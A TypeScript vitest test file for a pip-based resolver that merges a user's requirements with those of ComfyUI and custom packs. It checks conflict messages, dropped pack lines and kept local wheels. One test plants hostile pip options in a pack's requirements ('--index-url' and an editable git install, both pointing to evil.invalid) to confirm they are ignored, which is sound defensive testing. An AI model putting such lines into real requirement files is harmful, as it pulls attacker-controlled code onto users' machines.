import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { beforeAll, describe, expect, it } from 'vitest';

import { makeWheel } from '../../demo/wheel/make-wheel.ts';
import { type AllResolved, resolveAll } from '../../src/actions/_resolve-all.ts';
import { createSystemClock } from '../../src/adapters/clock/system-clock.ts';
import { createFiles } from '../../src/adapters/files/files.ts';
import { parseComponentRequirements } from '../../src/domain/environments/pack-requirements.ts';
import { parseRequirements } from '../../src/domain/environments/requirements.ts';
import type { LockedPackage, PythonFacts } from '../../src/ports/python.ts';
import { plain, writePackages } from './support/packages.ts';
import { pythonHarness } from './support/python-harness.ts';

const locked = (name: string, version: string): LockedPackage => ({
  ...{ name, version, sha256: [], file: `${name}-${version}-py3-none-any.whl`, sizeBytes: null },
});

const { folder, toolsDir, python } = pythonHarness({ isPrepared: true });
const indexDir = join(folder, 'index');
const index = { kind: 'folder', path: indexDir } as const;
writePackages(indexDir, [
  plain('core', '1.0'),
  plain('core', '2.0'),
  plain('friend', '1.0', { requires: ['core<2'] }),
  plain('other', '1.0'),
  plain('torch', '2.8.0'),
  plain('torch', '2.9.0'),
]);

describe('resolveAll with pip', () => {
  let facts: PythonFacts;
  beforeAll(async () => {
    facts = await python.probe({ toolsDir });
  });
  const resolve = (wanted: {
    own: string;
    core?: string;
    packs?: Record<string, string>;
    lock?: LockedPackage[];
  }): Promise<AllResolved> => {
    const asked = {
      core: parseComponentRequirements('ComfyUI', wanted.core ?? ''),
      packs: Object.entries(wanted.packs ?? {}).map(([id, text]) => parseComponentRequirements(id, text)),
    };
    const before = {
      requirementsText: wanted.own,
      requirements: parseRequirements({ file: 'requirements.in', text: wanted.own }),
      lock: { abi: facts.abi, platform: facts.platform, packages: wanted.lock ?? [] },
      versions: new Map((wanted.lock ?? []).map(({ name, version }) => [name, version])),
      asked,
    };
    const paths = { tools: toolsDir, wheels: join(folder, 'kept') };
    const config = { python: { torchIndex: null }, policy: { minAgeSeconds: 14 * 86_400 } };
    const { signal } = new AbortController();
    return resolveAll(
      { python, config, clock: createSystemClock(), signal, files: createFiles(), index, mark: 'r1.plan', paths },
      { before, python: facts },
    );
  };
  const versions = (found: AllResolved) =>
    found.kind === 'resolved' ? found.packages.map(({ name, version }) => `${name} ${version}`) : found;

  it('names the two requirements that fight and who asked for each, when the person and ComfyUI do', async () => {
    expect(await resolve({ own: 'core<2\n', core: 'core>=2\n', packs: { 'pack-a': 'other\n' } })).toMatchObject({
      kind: 'impossible',
      code: 'PACKAGE_CONFLICT',
      reason: 'requirements.in asks for core<2, but ComfyUI asks for core>=2.',
    });
    expect(await resolve({ own: 'core==2.0\nfriend\n' })).toMatchObject({
      reason: 'requirements.in asks for core==2.0, but friend 1.0 needs core<2.',
    });
  });

  it('gives up the line of a pack, and tells which', async () => {
    const found = await resolve({ own: 'core>=2\n', packs: { 'pack-a': 'core<2\nother\n', 'pack-b': 'friend\n' } });
    expect(versions(found)).toEqual(['core 2.0', 'other 1.0']);
    expect(found).toMatchObject({
      brokenPromises: [
        { pack: 'pack-a', requirement: 'core<2', chosen: 'core 2.0' },
        { pack: 'pack-b', requirement: 'friend', chosen: null },
      ],
    });
  });

  it('keeps a wheel that was built by hand, also where another package of the venv is on no index', async () => {
    const mine = makeWheel(plain('minepkg', '1.0+mine'));
    mkdirSync(join(folder, 'kept', mine.sha256), { recursive: true });
    writeFileSync(join(folder, 'kept', mine.sha256, mine.file), mine.bytes);
    const lock = [
      ...[locked('core', '1.0'), locked('minepkg', '1.0+mine'), locked('setuptools', '65.5.0')],
      ...[locked('gone', '1.0'), locked('friend', '1.0')],
    ];
    const found = await resolve({ own: 'core>=2\n', lock });
    expect(versions(found)).toEqual(['core 2.0', 'minepkg 1.0+mine']);
    expect(found).toMatchObject({
      warnings: [
        'who asks for minepkg 1.0+mine is not known: it stays',
        'setuptools 65.5.0 goes: no index has it and no wheel of it is kept',
        'gone 1.0 goes: no index has it and no wheel of it is kept',
        expect.stringMatching(/^friend 1\.0 goes: it does not fit with /),
      ],
      mustAsk: expect.stringContaining('gone 1.0'),
    });
  });

  it('obeys no index, address or option of a pack', async () => {
    const hostile = '--index-url https://evil.invalid/simple\n-e git+https://evil.invalid/x\nother\n--pre\n';
    expect(versions(await resolve({ own: 'torch==2.8.0\n', packs: { 'pack-a': `${hostile}torch==2.9.0\n` } }))).toEqual(
      ['other 1.0', 'torch 2.8.0'],
    );
  });
});
